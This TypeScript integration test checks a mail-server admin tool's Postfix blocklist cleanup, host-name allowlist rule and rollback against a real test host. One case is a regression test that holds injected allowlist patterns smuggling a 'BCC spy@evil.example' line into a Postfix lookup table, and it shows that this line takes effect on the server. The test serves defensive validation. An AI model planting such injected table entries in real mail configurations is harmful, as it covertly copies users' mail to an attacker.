// homemail inbound against the real test host: DNS blocklists served by the test DNS server
// (one working, one gone, one listing everything) probed through the server's resolver; the
// dead ones removed by apply and put back by rollback; the host-name rule with its allowlist
// exercised through Postfix's own smtpd with XCLIENT (enabled for 127.0.0.1 in this test only).
import { mkdtempSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCliCaptured, type CliRun } from '../support/cli.js';
import type { InboundReport } from '../../shared/inbound.js';
import type { Plan } from '../../shared/plan.js';
import { hostSkipReason, resetHost, type TestHost } from './testHost.js';

const skip = hostSkipReason();
const suite = (name: string): string => (skip === null ? name : `${name} — SKIPPED: ${skip}`);

interface InboundJson {
  ok: boolean;
  inbound: InboundReport;
  plan: Plan;
  changed: boolean;
  backupId: string | null;
  roundTrips: number;
}

async function cli(host: TestHost, args: string[]): Promise<CliRun> {
  const dir = mkdtempSync(path.join(tmpdir(), 'hm-inbound-'));
  const [command = '', ...rest] = args;
  return runCliCaptured(
    [command, '--ssh', `admin@${host.sshHost}:${host.sshPort}`, '-i', host.users.admin.keyPath, '--password-stdin', '--known-hosts', path.join(dir, 'kh'), '--accept-new-host-key', ...rest],
    { stdin: `${host.users.admin.password}\n` },
  );
}

/** One SMTP dialogue through XCLIENT: the reply to RCPT TO for a client with the given attributes. */
async function rcptAs(host: TestHost, xclient: string): Promise<string> {
  const socket = net.connect(25, host.address);
  let buffer = '';
  const waiters: Array<() => void> = [];
  socket.on('data', (chunk: Buffer) => {
    buffer += chunk.toString('latin1');
    waiters.splice(0).forEach((w) => w());
  });
  const reply = async (): Promise<string> => {
    const deadline = Date.now() + 20_000;
    for (;;) {
      const lines = buffer.split('\r\n');
      const end = lines.findIndex((l) => /^\d{3} /.test(l));
      if (end >= 0) {
        buffer = lines.slice(end + 1).join('\r\n');
        return lines.slice(0, end + 1).join('\n');
      }
      if (Date.now() > deadline) throw new Error(`SMTP timeout; got ${buffer}`);
      await new Promise<void>((resolve) => {
        waiters.push(resolve);
        setTimeout(resolve, 500);
      });
    }
  };
  const send = async (line: string): Promise<string> => {
    socket.write(`${line}\r\n`);
    return reply();
  };
  try {
    expect(await reply()).toMatch(/^220/);
    expect(await send('EHLO tester.example.test')).toMatch(/XCLIENT/);
    expect(await send(`XCLIENT ${xclient}`)).toMatch(/^220/);
    expect(await send('EHLO client.example.net')).toMatch(/^250/);
    expect(await send('MAIL FROM:<someone@sender.example>')).toMatch(/^250/);
    const answer = await send('RCPT TO:<admin@example.test>');
    await send('QUIT').catch(() => '');
    return answer;
  } finally {
    socket.destroy();
  }
}

const LISTS = 'reject_rbl_client good-bl.example.test, reject_rbl_client dead-bl.example.test, reject_rbl_client all-bl.example.test';
const ORIGINAL = `permit_mynetworks, ${LISTS}, permit`;

describe.skipIf(skip !== null)(suite('homemail inbound on the test host'), () => {
  let host: TestHost;

  const postconf = async (name: string) => (await host.runAsRoot(`postconf -h ${name}`)).stdout.trim();

  beforeAll(async () => {
    host = await resetHost('fresh');
    // A working list (RFC 5782 test entry listed, 127.0.0.1 not), a gone one (nothing
    // served), and a parked one that lists everything.
    await host.setRecords('example.test', [
      '2.0.0.127.good-bl IN A 127.0.0.2',
      '2.0.0.127.good-bl IN TXT "test entry"',
      '*.all-bl IN A 127.0.0.2',
      'stranger-ptr IN A 192.0.2.99',
    ]);
    // The person's restrictions, and XCLIENT for this test's SMTP client only.
    const setup = await host.runAsRoot(`postconf -e 'smtpd_client_restrictions = ${ORIGINAL}' 'smtpd_authorized_xclient_hosts = 127.0.0.1' && postfix reload`);
    expect(setup.code).toBe(0);
  });

  it('finds the dead lists through the server resolver and changes nothing without --apply', async () => {
    const before = await host.snapshot();
    const run = await cli(host, ['inbound', '--remove-dead', '--json']);
    expect(run.code).toBe(0);
    const result = JSON.parse(run.out) as InboundJson;
    expect(result.inbound.blocklists.map((b) => [b.use.zone, b.status, b.remove])).toEqual([
      ['good-bl.example.test', 'working', false],
      ['dead-bl.example.test', 'not-listing', true],
      ['all-bl.example.test', 'lists-everything', true],
    ]);
    expect(result.plan.changed).toBe(true);
    expect(result.plan.files.map((f) => f.path)).toEqual(['/etc/postfix/main.cf']);
    expect(result.plan.files[0]?.diff).toContain('-smtpd_client_restrictions = ' + ORIGINAL);
    expect(result.plan.files[0]?.diff).toContain('+smtpd_client_restrictions = permit_mynetworks, reject_rbl_client good-bl.example.test, permit');
    expect(result.changed).toBe(false);
    expect(host.diffSnapshots(before, await host.snapshot())).toEqual([]);
    expect(result.inbound.roundTrips).toBe(2);
  });

  it('removes the dead lists by apply, and rollback restores them', async () => {
    const applied = await cli(host, ['inbound', '--remove-dead', '--apply', '--json']);
    expect(applied.err).toBe('');
    const result = JSON.parse(applied.out) as InboundJson;
    expect(result.changed).toBe(true);
    expect(result.backupId).toMatch(/^\d{8}-\d{6}-[0-9a-f]{6}$/);
    expect(await postconf('smtpd_client_restrictions')).toBe('permit_mynetworks, reject_rbl_client good-bl.example.test, permit');
    expect((await host.runAsRoot('postfix status')).code).toBe(0);

    const again = JSON.parse((await cli(host, ['inbound', '--remove-dead', '--apply', '--json'])).out) as InboundJson;
    expect(again.changed).toBe(false);

    const rolled = await cli(host, ['rollback', '--backup', result.backupId ?? '']);
    expect(rolled.code).toBe(0);
    expect(await postconf('smtpd_client_restrictions')).toBe(ORIGINAL);
  });

  it('the allowlist lets listed clients through while reject_unknown_client_hostname holds for others', async () => {
    // Before: the list that lists everything refuses every client, which is why it must go.
    expect(await rcptAs(host, 'ADDR=192.0.2.50 NAME=partner.example.test REVERSE_NAME=partner.example.test')).toMatch(/^5\d\d .*all-bl\.example\.test/);

    const bad = await cli(host, ['inbound', '--hostname-rule', 'strict', '--allow', '/(?=x)/', '--apply']);
    expect(bad.code).toBe(2);
    expect(bad.err).toMatch(/allow entry 1/);

    const applied = await cli(host, ['inbound', '--remove-dead', '--hostname-rule', 'strict', '--allow', 'partner.example.test', '--allow', '198.51.100.0/24', '--apply', '--json']);
    expect(applied.err).toBe('');
    const result = JSON.parse(applied.out) as InboundJson;
    expect(result.changed).toBe(true);
    const commands = result.plan.commands.map((c) => c.command);
    expect(commands).toContain('postfix check');
    expect(commands.some((c) => c.startsWith("sh -c 'exec postmap -q") && c.endsWith(' partner.example.test regexp:/etc/postfix/homemail_client_allow'))).toBe(true);
    expect(await postconf('smtpd_client_restrictions')).toBe(
      'permit_mynetworks, check_client_access cidr:/etc/postfix/homemail_client_allow.cidr, check_reverse_client_hostname_access regexp:/etc/postfix/homemail_client_allow, reject_rbl_client good-bl.example.test, permit',
    );

    expect((await host.readFile('/etc/postfix/homemail_client_allow')).toString()).toMatch(/^\/\^partner\\\.example\\\.test\$\/ DUNNO$[\s\S]*^\/\.\/ reject_unknown_client_hostname$/m);
    // Listed by reverse name (its forward DNS does not confirm it), and listed by address: through.
    expect(await rcptAs(host, 'ADDR=192.0.2.50 NAME=[UNAVAILABLE] REVERSE_NAME=partner.example.test')).toMatch(/^250/);
    expect(await rcptAs(host, 'ADDR=198.51.100.7 NAME=[UNAVAILABLE] REVERSE_NAME=[UNAVAILABLE]')).toMatch(/^250/);
    // Everyone else without a confirmed name: refused by the rule.
    expect(await rcptAs(host, 'ADDR=192.0.2.99 NAME=[UNAVAILABLE] REVERSE_NAME=stranger-ptr.example.test')).toMatch(/^[45]\d\d .*Client host rejected: cannot find your hostname/);
    expect(await rcptAs(host, 'ADDR=203.0.113.9 NAME=[UNAVAILABLE] REVERSE_NAME=[UNAVAILABLE]')).toMatch(/^[45]\d\d /);
    // A client with a confirmed name passes the rule (and the working list).
    expect(await rcptAs(host, 'ADDR=192.0.2.77 NAME=good.example.net REVERSE_NAME=good.example.net')).toMatch(/^250/);

    const rolled = await cli(host, ['rollback', '--backup', result.backupId ?? '']);
    expect(rolled.code).toBe(0);
    expect(await postconf('smtpd_client_restrictions')).toBe(ORIGINAL);
    expect((await host.runAsRoot('test -e /etc/postfix/homemail_client_allow; echo $?')).stdout.trim()).toBe('1');
  });

  it('refuses an allowlist pattern carrying a newline (an injected BCC line) at the CLI and the contract: exit 2, bad-input, the server byte-identical', async () => {
    const applied = await cli(host, ['inbound', '--remove-dead', '--hostname-rule', 'strict', '--allow', 'partner.example.test', '--apply', '--json']);
    expect(applied.err).toBe('');
    const backupId = (JSON.parse(applied.out) as InboundJson).backupId ?? '';
    const before = await host.snapshot();
    const tableBefore = await host.readFile('/etc/postfix/homemail_client_allow');

    // What the review found: Postfix itself would honour the injected line. The table the
    // old writer produced, compiled by the server's real postmap, answers BCC for "unknown".
    const injected = '/^a\n|.| BCC spy@evil.example\n/';
    const oldTable = `${injected} DUNNO\n/./ reject_unknown_client_hostname\n`;
    const demo = await host.runAsRoot('d=$(mktemp -d) && cat > "$d/t" && postmap -q unknown "regexp:$d/t"; rm -rf "$d"', { stdin: oldTable });
    expect(demo.stdout.trim()).toBe('BCC spy@evil.example');

    for (const hostile of [injected, '/^a\r|.| BCC spy@evil.example/', '/^a\u2028x/', '/^a\u0085x/', '/unk/', '/^[a-z]+$/']) {
      const run = await cli(host, ['inbound', '--hostname-rule', 'strict', '--allow', 'partner.example.test', '--allow', hostile, '--apply']);
      expect(run.code, JSON.stringify(hostile)).toBe(2);
      expect(run.err, JSON.stringify(hostile)).toMatch(/allow entry 2 [^\n]* is refused:\n.*(control character|"unknown")/);
      expect(run.err).not.toMatch(/[\r\u2028\u0085]/);
    }
    const { createHandlers } = await import('../../main/services/index.js');
    const { dispatch } = await import('../../main/ipc/dispatch.js');
    const handlers = createHandlers({ door: 'web', version: 'test', dataDir: mkdtempSync(path.join(tmpdir(), 'hm-inbound-door-')), now: () => new Date() });
    const outcome = await dispatch(handlers, 'applyInbound', { sessionId: 'a'.repeat(24), domain: 'example.test', hostnameRule: 'strict', allow: [{ kind: 'regexp', value: injected }] }, { signal: new AbortController().signal, progress: () => undefined });
    expect(outcome).toMatchObject({ ok: false, error: { code: 'bad-input' } });
    expect(JSON.stringify(outcome)).toMatch(/U\+000A/);

    expect(host.diffSnapshots(before, await host.snapshot())).toEqual([]);
    expect((await host.readFile('/etc/postfix/homemail_client_allow')).equals(tableBefore)).toBe(true);
    // The real table and the real smtpd: "unknown" still meets the host-name rule, nobody is BCC'd.
    expect((await host.runAsRoot('postmap -q unknown regexp:/etc/postfix/homemail_client_allow')).stdout.trim()).toBe('reject_unknown_client_hostname');
    expect(await rcptAs(host, 'ADDR=203.0.113.9 NAME=[UNAVAILABLE] REVERSE_NAME=[UNAVAILABLE]')).toMatch(/^[45]\d\d .*cannot find your hostname/);
    expect(await rcptAs(host, 'ADDR=192.0.2.50 NAME=[UNAVAILABLE] REVERSE_NAME=partner.example.test')).toMatch(/^250/);

    expect((await cli(host, ['rollback', '--backup', backupId])).code).toBe(0);
  });

  it('a pattern only Postfix reads as matching "unknown" fails validation by its answer, not its exit status: exit 4, rolled back', async () => {
    // JavaScript reads [[:alpha:]] as a class of "[:alph" then "]", so no check on this side
    // can tell; the server's regcomp reads a POSIX class that matches "unknown".
    const before = await host.snapshot();
    const run = await cli(host, ['inbound', '--hostname-rule', 'strict', '--allow', 'partner.example.test', '--allow', '/^[[:alpha:]]+$/', '--apply']);
    expect(run.code).toBe(4);
    expect(run.err).toMatch(/postmap -q unknown/);
    expect(host.diffSnapshots(before, await host.snapshot())).toEqual([]);
    expect(await postconf('smtpd_client_restrictions')).toBe(ORIGINAL);
  });
});
